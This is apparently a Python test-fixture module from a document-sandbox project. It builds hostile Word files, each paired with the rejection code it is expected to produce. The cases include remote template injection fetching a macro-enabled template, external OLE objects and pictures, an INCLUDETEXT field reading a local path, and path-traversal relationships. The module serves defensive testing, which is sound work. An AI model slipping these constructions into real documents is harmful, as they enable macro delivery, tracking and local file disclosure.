"""Word files that lead out of themselves, or whose text goes on in another file."""

from gevinst.codes import Code
from sandbox.hostile.case import Hostile, Lure
from sandbox.hostile.word_archive import ole
from sandbox.hostile.word_file import PACKAGE_RELATIONS, W, related, relation, word

_DAMAGED = Code.DOCUMENT_DAMAGED
_NOT_AS_NAMED = Code.DOCUMENT_NOT_AS_NAMED
_CHUNK = '<w:altChunk r:id="out"/>'
_SUB_DOCUMENT = '<w:subDoc r:id="out"/>'
_PICTURE = (
    '<w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:link="out"/></w:drawing>'
)
_OBJECT = '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="out"/></w:object>'


def outside(kind: str, shown: str, target: str) -> bytes:
    """A letter with a relation out of the file, and what uses it."""
    return word(shown, relations=relation(kind, target, name="out", external=True))


def inside(kind: str, shown: str, target: str, content: bytes) -> bytes:
    """The same with a relation to a part of the file."""
    return word(shown, more={f"word/{target}": content}, relations=relation(kind, target, name="out"))


def in_a_line(xml: str) -> str:
    """A line that shows something."""
    return f"<w:p><w:r>{xml}</w:r></w:p>"


def remote_template(url: str) -> bytes:
    """Word fetches the template a letter names, with the programs in it, when it opens the letter."""
    template = related(relation("attachedTemplate", f"{url}/template.dotm", external=True))
    settings = f'<w:settings xmlns:w="{W}"/>'.encode()
    more = {"word/settings.xml": settings, "word/_rels/settings.xml.rels": template}
    return word(more=more, relations=relation("settings", "settings.xml"))


def main_part(url: str) -> bytes:
    """The text itself is said to lie on the web."""
    relations = related(relation("officeDocument", f"{url}/main.xml", external=True))
    return word(more={PACKAGE_RELATIONS: relations})


def word_relations(lure: Lure) -> list[Hostile]:
    """The files; what they lead to is the lure."""
    url = lure.url
    picture, thing = in_a_line(_PICTURE), in_a_line(_OBJECT)
    field = f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{lure.path}&quot; "/></w:p>'
    html = f"<html><img src='{url}/in-a-chunk.png'/>I alt: 9.999,00</html>".encode()
    return [
        Hostile("relation-to-null.docx", _DAMAGED, lambda: word(relations=relation("image", "../NULL"))),
        Hostile("relation-above.docx", _DAMAGED, lambda: word(relations=relation("image", f"../../..{lure.path}"))),
        Hostile("relation-to-itself.docx", None, lambda: word(relations=relation("header", "document.xml"))),
        Hostile("main-part-outside.docx", _DAMAGED, lambda: main_part(url)),
        Hostile("remote-template.docx", None, lambda: remote_template(url)),
        Hostile("remote-picture.docx", None, lambda: outside("image", picture, f"{url}/picture.png")),
        Hostile("remote-object.docx", None, lambda: outside("oleObject", thing, f"{url}/object.bin")),
        Hostile("included-text.docx", None, lambda: word(field)),
        Hostile("remote-chunk.docx", _NOT_AS_NAMED, lambda: outside("aFChunk", _CHUNK, f"{url}/chunk.html")),
        Hostile(
            "remote-sub-document.docx", _NOT_AS_NAMED, lambda: outside("subDocument", _SUB_DOCUMENT, f"{url}/a.docx")
        ),
        Hostile("chunk-of-html.docx", _NOT_AS_NAMED, lambda: inside("aFChunk", _CHUNK, "chunk.html", html)),
        Hostile("chunk-of-word.docx", _NOT_AS_NAMED, lambda: inside("aFChunk", _CHUNK, "chunk.docx", word())),
        Hostile("embedded-object.docx", None, lambda: inside("oleObject", thing, "object.bin", ole())),
    ]
